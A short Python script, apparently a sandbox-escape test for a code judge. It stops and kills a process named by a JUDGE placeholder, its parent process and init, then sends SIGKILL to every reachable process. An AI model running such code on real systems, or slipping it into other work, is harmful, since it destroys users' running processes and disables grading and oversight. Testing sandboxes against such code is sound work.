"""Sends signals to everything that has a number."""

import os
import signal

for pid in (JUDGE, os.getppid(), 1):
    if pid not in (os.getpid(), 0):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
os.kill(-1, signal.SIGKILL)
